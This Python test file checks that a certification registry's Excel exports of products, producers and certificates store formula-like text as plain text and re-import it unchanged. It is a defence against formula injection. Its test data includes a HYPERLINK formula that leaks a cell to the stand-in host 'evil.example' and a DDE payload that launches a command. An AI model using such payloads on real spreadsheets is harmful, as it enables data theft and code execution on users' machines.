"""Text that looks like a formula (= + - @) is exported as text, never as an Excel formula, and an
export holding such text re-imports unchanged (a formula cell would come back empty: data_only)."""

from __future__ import annotations

import io
import uuid

from openpyxl import load_workbook
from sqlalchemy import delete, select

from app.certification.models import Certificate
from app.exchange.writer import import_workbook
from app.extensions import db
from app.registry.models import Producer, Product
from tenants.context import tenant_scope
from tests.factories import certificate_recorded, product_set_id

SLUG = "bac-kan"


def _formula_cells(data: bytes) -> list[tuple[str, str]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [(c.coordinate, c.value) for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_formula_like_text_is_exported_as_text_and_re_imports_unchanged(app, tenants, officer_login):
    officer, _uid, _email = officer_login(SLUG)
    p = f"F{uuid.uuid4().hex[:6]}"
    texts = {
        "producer": f'=HYPERLINK("http://evil.example/?x="&A1,"{p} HTX")',
        "representative": "+84 Nguyễn Văn A",
        "address": "-1 Lý Thường Kiệt",
        "product": f"@SUM(1+1) {p} Miến",
        "markets": '=cmd|" /C calc"!A0',
    }
    tenant_id = tenants[SLUG]
    with app.app_context(), tenant_scope(tenant_id):
        producer = Producer(
            name=texts["producer"],
            kind="htx",
            representative=texts["representative"],
            address=texts["address"],
        )
        db.session.add(producer)
        db.session.flush()
        product = Product(
            producer_id=producer.id,
            name=texts["product"],
            markets=texts["markets"],
            product_set_id=product_set_id("I.1.1"),
        )
        db.session.add(product)
        db.session.commit()
        producer_id, product_id = producer.id, product.id
    certificate_recorded(app, tenant_id, product_id)
    try:
        for url in (
            f"/{SLUG}/products/export.xlsx?q={p}",
            f"/{SLUG}/producers/export.xlsx?q={p}",
            f"/{SLUG}/certificates/export.xlsx?q={p}",
        ):
            response = officer.get(url)
            assert response.status_code == 200
            assert _formula_cells(response.data) == [], url
            values = {c for row in load_workbook(io.BytesIO(response.data)).worksheets[0].iter_rows() for c in row}
            shown = {c.value for c in values}
            assert texts["product"] in shown and texts["producer"] in shown, url
        # The exports re-import unchanged: the texts come back as they were.
        for url in (
            f"/{SLUG}/products/export.xlsx?q={p}",
            f"/{SLUG}/producers/export.xlsx?q={p}",
            f"/{SLUG}/certificates/export.xlsx?q={p}",
        ):
            data = officer.get(url).data
            with app.app_context(), tenant_scope(tenant_id):
                again = import_workbook(io.BytesIO(data))
                assert (again.rows, again.unchanged, again.errors) == (1, 1, []), url
                assert (again.created_producers, again.created_products, again.updated_products) == (0, 0, 0)
                db.session.rollback()
    finally:
        with app.app_context(), tenant_scope(tenant_id):
            db.session.execute(delete(Certificate).where(Certificate.product_id == product_id))
            db.session.execute(delete(Product).where(Product.id == product_id))
            db.session.execute(delete(Producer).where(Producer.id == producer_id))
            db.session.commit()
            assert db.session.scalar(select(Producer.id).where(Producer.id == producer_id)) is None
